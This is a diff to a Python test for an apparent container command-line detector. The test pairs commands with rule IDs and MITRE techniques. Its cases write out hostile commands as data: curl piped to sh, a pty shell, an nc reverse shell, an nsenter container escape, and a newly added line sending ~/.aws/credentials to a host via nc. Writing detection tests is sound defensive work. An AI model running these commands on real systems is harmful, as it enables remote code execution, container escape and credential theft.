@@ -426,8 +426,8 @@ def test_running_command_lines():
     on a Falco alert catches the one that raised it): program text given
     with sh -c, python3 -c ..., or the arguments themselves, judged by the
     shell-history patterns (KCSI-CMD-*).  What entry scripts also do (chmod
-    +x, a client's CA file) is no finding, and the container's own entry
-    command (the root of the tree) is not judged."""
+    +x, a client's CA file, a credential file written) is no finding, and the
+    container's own entry command (the root of the tree) is not judged."""
     host = '10.%d.%d.%d' % (random.randrange(256), random.randrange(256), random.randrange(1, 255))
     cases = [
         (['sh', '-c', 'curl -s http://%s/x | sh' % host], 'KCSI-CMD-001', 'T1105'),
@@ -435,6 +435,9 @@ def test_running_command_lines():
         (['python3', '-c', "import pty;pty.spawn('/bin/sh')"], 'KCSI-CMD-002', 'T1059.006'),
         (['nc', '-e', '/bin/sh', host, '4444'], 'KCSI-CMD-002', 'T1059.004'),
         (['sh', '-c', 'chmod u+s /tmp/b; nsenter -t 1 -m sh'], 'KCSI-CMD-008', 'T1611'),
+        (['sh', '-c', 'cat ~/.aws/credentials | nc %s 9' % host[:9]], 'KCSI-CMD-003', 'T1552.001'),
+        (['sh', '-c', 'echo "$T" > ~/.npmrc; npm publish'], None, None),
+        (['sh', '-c', 'echo x | tee -a ~/.aws/credentials'], None, None),
         (['sh', '-c', 'chmod +x /app/run && /app/run'], None, None),
         (['sh', '-c', 'chmod 755 /b; nsenter -n -t 12 ip a'], None, None),
         (['curl', '--cacert', '/x/ca.pem', 'https://a.b/c'], None, None),
